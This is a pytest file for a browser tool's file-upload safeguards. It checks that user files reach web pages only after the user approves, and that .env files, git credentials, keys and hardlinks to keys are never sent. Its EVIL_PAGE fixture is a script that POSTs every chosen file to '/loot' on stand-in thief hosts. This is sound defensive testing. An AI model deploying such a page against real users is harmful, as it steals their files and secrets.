"""Files of the user reach a page only after the user's yes, and secrets not at all (F11, A45)."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from approval_window import AskedUser
from logged_hosts import LoggedHosts
from tool_browser import Browsing, Tools

KEY = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaA==\n-----END OPENSSH PRIVATE KEY-----\n"
EVIL_PAGE = """
    <label>Anything <input type=file multiple id=field></label>
    <script>
      field.onchange = async () => {
        for (const file of field.files) await fetch("/loot", { method: "POST", body: await file.text() });
        document.title = "taken";
      };
    </script>
"""


@pytest.fixture(scope="module")
def project(browsing: Browsing) -> Path:
    """Return the working folder of the clients, with secrets in it."""
    project = browsing.chain.home / "project"
    (project / ".git").mkdir(parents=True)
    (project / "poem.txt").write_text("The harbour was quiet.")
    (project / "other.txt").write_text("Another one.")
    (project / ".env").write_text("TOKEN=SECRET")
    (project / ".git/config").write_text("url = https://ann:SECRET@git.example")
    (project / "server.pem").write_text("SECRET")
    (browsing.chain.home / ".ssh").mkdir()
    (browsing.chain.home / ".ssh/id_rsa").write_text(KEY)
    (project / "hard.txt").hardlink_to(browsing.chain.home / ".ssh/id_rsa")
    return project


@pytest.fixture
def config(browsing: Browsing) -> Iterator[Path]:
    path = browsing.chain.home / "config.toml"
    yield path
    path.unlink(missing_ok=True)


def open_page(tools: Tools, hosts: LoggedHosts, host: str = "evil.localhost") -> str:
    """Open the page that sends away each file that it gets; return the reference of its field."""
    tools.done("tabs_create")
    tools.done("navigate", url=hosts.set_page(host, "/", EVIL_PAGE))
    return tools.ref_of("Anything")


def loot(hosts: LoggedHosts, host: str = "evil.localhost") -> list[bytes]:
    return [request.body for request in hosts.requests(host) if request.path == "/loot"]


@pytest.mark.parametrize("path", [".env", ".git/config", "server.pem", "hard.txt"])
def test_secrets_of_the_working_folder_are_not_given_even_if_the_user_says_yes(
    browsing: Browsing, hosts: LoggedHosts, project: Path, path: str
) -> None:
    user = AskedUser("for this session")
    with browsing.client("model", cwd=project, **user.options) as tools:
        ref = open_page(tools, hosts, "thief.localhost")
        assert "upload_dirs" in tools.refused("file_upload", ref=ref, paths=["poem.txt", path])
        assert "upload_dirs" in tools.refused("file_upload", ref=ref, paths=[path])
    assert (user.questions, loot(hosts, "thief.localhost")) == ([], [])


def test_a_client_started_among_keys_gives_none(
    browsing: Browsing, hosts: LoggedHosts, project: Path
) -> None:
    user = AskedUser("for this session")
    cwd = browsing.chain.home / ".ssh"
    with browsing.client("keys", cwd=cwd, **user.options) as tools:
        ref = open_page(tools, hosts, "thief.localhost")
        tools.refused("file_upload", ref=ref, paths=["id_rsa"])
    assert (user.questions, loot(hosts, "thief.localhost")) == ([], [])


def test_a_project_s_environment_opens_no_directory(
    browsing: Browsing, hosts: LoggedHosts, project: Path
) -> None:
    home = browsing.chain.home
    (home / "letter.txt").write_text("Dear Bob")
    with browsing.client("env", cwd=project, settings={"MCPB_BROWSER_UPLOAD_DIRS": str(home)}) as tools:
        ref = open_page(tools, hosts, "thief.localhost")
        for path in (".env", home / "letter.txt", home / ".ssh/id_rsa"):
            tools.refused("file_upload", ref=ref, paths=[str(path)])
    assert loot(hosts, "thief.localhost") == []


def test_the_user_is_asked_once_per_site_and_sees_the_files(
    browsing: Browsing, hosts: LoggedHosts, project: Path
) -> None:
    user = AskedUser("for this session")
    with browsing.client("asks", cwd=project, **user.options) as tools:
        ref = open_page(tools, hosts)
        tools.done("file_upload", ref=ref, paths=["poem.txt", "other.txt"])
        tools.look(tools.done("read_page").structured["tabId"]).wait_until("document.title === 'taken'")
        assert loot(hosts) == [b"The harbour was quiet.", b"Another one."]
        tools.done("file_upload", ref=ref, paths=["poem.txt"])
        (question,) = user.questions
        assert hosts.origin("evil.localhost") in question
        assert str(project / "poem.txt") in question
        assert str(project / "other.txt") in question
        tools.done("file_upload", ref=open_page(tools, hosts, "other.localhost"), paths=["poem.txt"])
        assert hosts.origin("other.localhost") in user.questions[1]


def test_a_no_gives_nothing_and_the_next_call_is_rejected_without_a_prompt(
    browsing: Browsing, hosts: LoggedHosts, project: Path
) -> None:
    user = AskedUser("no")
    with browsing.client("refused", cwd=project, **user.options) as tools:
        ref = open_page(tools, hosts, "thief.localhost")
        assert "did not allow it" in tools.refused("file_upload", ref=ref, paths=["poem.txt"])
        assert "said no to this just now" in tools.refused("file_upload", ref=ref, paths=["other.txt"])
    assert (len(user.questions), loot(hosts, "thief.localhost")) == (1, [])


def test_a_client_that_cannot_ask_is_told_what_the_user_can_do(
    browsing: Browsing, hosts: LoggedHosts, project: Path
) -> None:
    with browsing.client("mute", cwd=project, settings={"MCPB_BROWSER_ASK_IN": "client"}) as tools:
        ref = open_page(tools, hosts, "thief.localhost")
        assert "[browser] upload_dirs" in tools.refused("file_upload", ref=ref, paths=["poem.txt"])
    assert loot(hosts, "thief.localhost") == []


def test_files_that_the_user_named_in_upload_dirs_need_no_question(
    browsing: Browsing, hosts: LoggedHosts, project: Path, config: Path
) -> None:
    config.write_text(f"[browser]\nupload_dirs = ['{project / '.env'}', '{project / 'poem.txt'}']")
    with browsing.client("named", cwd=project, settings={"MCPB_BROWSER_ASK_IN": "client"}) as tools:
        ref = open_page(tools, hosts, "named.localhost")
        tools.done("file_upload", ref=ref, paths=["poem.txt"])
        tools.done("file_upload", ref=ref, paths=[".env"])
        tools.refused("file_upload", ref=ref, paths=["server.pem"])
        tools.refused("file_upload", ref=ref, paths=["other.txt"])


def test_a_page_that_goes_elsewhere_while_the_user_is_asked_gets_nothing(
    browsing: Browsing, hosts: LoggedHosts, project: Path
) -> None:
    thief = hosts.set_page("thief.localhost", "/", EVIL_PAGE)

    async def leave() -> None:
        await tab.page.evaluate(f"location.href = {thief!r}")
        await tab.page.wait_until("location.hostname === 'thief.localhost'")

    user = AskedUser("for this session", before=leave)
    with browsing.client("leaves", cwd=project, **user.options) as tools:
        ref = open_page(tools, hosts)
        tab = tools.look(tools.done("read_page").structured["tabId"])
        tools.refused("file_upload", ref=ref, paths=["poem.txt"])
    assert len(user.questions) == 1
    assert loot(hosts, "thief.localhost") == []
